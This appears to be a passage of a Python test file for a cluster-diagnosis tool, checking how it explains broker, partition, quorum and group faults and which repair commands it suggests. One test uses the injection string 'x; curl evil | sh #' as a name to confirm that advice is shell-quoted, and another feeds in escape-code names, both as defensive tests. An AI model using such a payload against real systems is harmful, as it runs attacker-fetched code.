    assert "has not heard from broker 2 or 3" in told.text().replace("brokers", "broker")


@pytest.mark.parametrize("here", [True, False])
def test_whether_a_process_is_paused_is_known_on_this_machine(here: bool) -> None:
    silent = BrokerNow(2, "h:1", Reach.SILENT, True, process=True, pid=7, paused=here)
    told = explain_broker(silent, DutiesNow(3, 0, (), ()), cluster(_2=silent), [], LOCAL)
    assert ("kill -CONT 7" in told.text()) is here
    assert ("its process is paused" in told.text()) is here


def lost(known: ClusterNow, *ids: int, vote: bool = True) -> ClusterNow:
    """These nodes have lost their disks; all three vote."""
    data = {
        id: NodeData(id, (f"/d/{id}",) if id in ids else (), f"/c/{id}", True, f"{id}@h:1" * vote)
        for id in known.brokers
    }
    return replace(known, data=data)


def test_a_broker_whose_disk_is_gone_is_replaced() -> None:
    now = replace(WHOLE, isr=(1, 2))
    told = of_partition(now, lost(cluster(_3=killed(3)), 3))
    assert "does not run, its log directory /d/3 is gone" in told.text()
    assert commands_of(told) == ["ottla brokers replace 3"]
    dynamic = of_partition(now, lost(cluster(_3=killed(3)), 3, vote=False))
    assert commands_of(dynamic) == ["ottla brokers replace 3 && ottla controllers replace 3"]
    broker = lost(cluster(_3=killed(3)), 3)
    (step,) = explain_broker(killed(3), DutiesNow(3, 0, (), ()), broker, [], LOCAL).steps
    assert step.command == "ottla brokers replace 3"


def test_a_quorum_whose_majority_has_no_disk_is_told_what_helps() -> None:
    silent = replace(cluster(_2=killed(2), _3=killed(3)), quorum=QuorumNow(None, (1, 2, 3)))
    (step,) = of_partition(WHOLE, lost(silent, 2, 3)).steps
    assert "Let node 1 vote alone" in step.text and "is lost" in step.text
    assert step.command.startswith("ottla down && sed -i.all-voters ")
    (step,) = of_partition(WHOLE, lost(silent, 2, 3, vote=False)).steps
    assert "Only one of these disks" in step.text and not step.command
    (step,) = of_partition(WHOLE, lost(silent, 3)).steps
    assert step.command == "ottla nodes start 2 && ottla brokers replace 3"


def test_the_partitions_of_a_topic_that_share_their_trouble_are_told_once() -> None:
    known = cluster(_3=killed(3))
    explained = [
        of_partition(replace(WHOLE, partition=number, isr=isr), known)
        for number, isr in enumerate([(1, 2), (2, 1), (1, 2, 3)])
    ]
    sick, well = merged(explained)
    assert sick.subject == "partitions orders-0 and orders-1" and "orders-1" in sick.headline
    assert well.subject == "partition orders-2" and well.ok


def test_the_story_begins_after_the_last_time_when_all_were_in_sync() -> None:
    events = [
        happened(90_000, "isr_shrink", isr=[1, 2], brokers=[3]),
        happened(80_000, "isr_expand", isr=[1, 2, 3], brokers=[3]),
        happened(20_000, "isr_shrink", isr=[1, 3], brokers=[2]),
    ]
    story = story_of_partition(events, "orders-0", (1, 2, 3), whole_now=False)
    assert [each.at_ms for each in story.entries] == [NOW - 20_000] and story.left_out == 2
    whole = story_of_partition(events[:2], "orders-0", (1, 2, 3), whole_now=True)
    assert whole.entries == events[:2]


def test_elections_of_different_causes_are_told_apart() -> None:
    events = [
        replace(
            happened(ago_ms, "election", previous_leader=3, leader=2, leader_epoch=3, how=how),
            partition=partition,
        )
        for ago_ms, how, partition in (
            (9_000, "preferred", "payments-0"),
            (8_000, "clean", "orders-2"),
            (7_990, "clean", "orders-5"),
        )
    ]
    explained = explain_broker(
        killed(3), DutiesNow(3, 0, (), ()), cluster(_3=killed(3)), events, LOCAL
    )
    assert [line.text.partition(",")[0] for line in explained.timeline] == [
        "payments-0: broker 2 was elected leader after broker 3 (epoch 3)",
        "2 partitions (orders-2 and orders-5)",
    ]


def test_what_one_failure_did_to_many_partitions_is_one_line() -> None:
    events = [
        Happened(NOW + number, kind, 1, f"orders-{number}", "fenced", fields)
        for number in range(50)
        for kind, fields in (
            ("isr_shrink", {"brokers": [2], "isr": [1, 3]}),
            ("election", {"previous_leader": 2, "leader": 1 + number % 2 * 2}),
        )
    ]
    from ottla.diagnosis.timeline import Story

    lines, _ = told(Story(events, 0), NOW, "ottla events")
    assert [line.text for line in lines] == [
        "broker 2 left the ISR of 50 partitions (orders-0, orders-1 and orders-2 …) because it was fenced",
        "50 partitions (orders-0, orders-1 and orders-2 …), which broker 2 had led, got other leaders",
    ]


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3),
    max_leaves=4,
)


@given(
    kind=st.sampled_from([*WORDS, "something_new"]),
    more=st.dictionaries(st.text(max_size=8), json_values, max_size=3),
)
def test_every_kind_of_event_has_words_also_without_its_fields(
    kind: str, more: dict[str, Any]
) -> None:
    words = in_words(
        Happened(
            NOW, kind, 1, "orders-0", None, {f"x{name}": value for name, value in more.items()}
        )
    )
    assert words and "None None" not in words


@given(st.integers(min_value=0, max_value=10**12))
def test_a_duration_has_a_number_and_a_unit(ms: int) -> None:
    number, unit = duration(ms).split(" ")[:2]
    assert float(number) >= 0 and unit in ("ms", "s", "min", "h", "days")


def test_lists_read_as_people_write_them() -> None:
    assert [listed(range(n)) for n in range(4)] == ["", "0", "0 and 1", "0, 1 and 2"]
    assert (brokers(()), brokers((2,)), brokers((2, 3), "or")) == (
        "no broker",
        "broker 2",
        "brokers 2 or 3",
    )


def test_a_name_that_a_client_chose_adds_no_line_to_an_explanation() -> None:
    explained = of_group(replace(GROUP, id="g\x1b[2J\nforged", state="Empty", members=()))
    lines = explained.text().split("\n")
    assert all(line.isprintable() for line in lines)
    assert not any(line.startswith("forged") for line in lines)
    assert "\nforged" in explained.as_json()["subject"], "programs get it as it is"


def test_names_in_advice_are_quoted_for_the_shell() -> None:
    evil = "x; curl evil | sh #"
    held_up = replace(GROUP, id=evil, state="PreparingRebalance", hold_up=None)
    (command,) = set(commands_of(of_group(held_up)))
    assert shlex.split(command) == ["ottla", "explain", "--group", evil]
    owned = TransactionNow(400, 7, NOW, transactional_id=evil)
    (abort,) = end_transaction(owned, "orders", 0, REMOTE)
    assert shlex.split(abort.command)[3] == evil
    fields = {"client_id": evil, "quota": "producer_byte_rate", "limit": 1.0, "throttle_ms": 1}
    quota = QuotaNow({"client-id": evil}, {"producer_byte_rate": 1.0})
    hits = [happened(1_000, "quota_exceeded", **fields)]
    found = throttling(hits, replace(cluster(), quotas=(quota,)), LOCAL)
    commands = [step.command for step in found.steps if step.command]
    assert commands and all(evil in shlex.split(command) for command in commands)
